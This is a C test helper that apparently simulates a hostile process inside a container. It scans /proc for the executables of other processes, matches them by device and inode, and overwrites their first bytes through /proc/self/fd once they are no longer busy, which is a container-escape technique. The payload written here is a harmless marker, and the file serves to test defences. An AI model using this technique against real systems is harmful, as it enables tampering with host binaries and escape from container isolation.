// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * exe-hunter.c DEVICE:INODE...: a hostile process in a container. It opens /proc/PID/exe of every
 * process continuously. If the file is one of those named, it tries to overwrite the beginning of
 * the file. Prints `hunting` at the start. Prints `overwritten` and exits when it has succeeded.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int files;
static char **names;

static bool is_wanted(int fd)
{
	char name[64];
	struct stat st;

	if (fstat(fd, &st) < 0)
		return false;
	snprintf(name, sizeof(name), "%lu:%lu", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	for (int i = 0; i < files; i++)
		if (strcmp(names[i], name) == 0)
			return true;
	return false;
}

/* Tries to open the file for writing until it is no longer busy, and then overwrites its beginning.
 * Returns true on success. */
static bool overwrite(int file)
{
	static const char text[] = "#!/bin/false overwritten\n";
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", file);
	do
		fd = open(path, O_WRONLY);
	while (fd < 0 && errno == ETXTBSY);
	return fd >= 0 && write(fd, text, sizeof(text) - 1) > 0;
}

static void hunt(DIR *proc)
{
	const struct dirent *d;

	rewinddir(proc);
	while ((d = readdir(proc))) {
		char path[300];
		int fd;

		if (strspn(d->d_name, "0123456789") != strlen(d->d_name))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", d->d_name);
		fd = open(path, O_RDONLY);
		if (fd >= 0 && is_wanted(fd) && overwrite(fd)) {
			puts("overwritten");
			exit(0);
		}
		if (fd >= 0)
			close(fd);
	}
}

int main(int argc, char **argv)
{
	DIR *proc = opendir("/proc");

	if (!proc)
		return 1;
	files = argc - 1;
	names = argv + 1;
	puts("hunting");
	fflush(stdout);
	for (;;)
		hunt(proc);
}
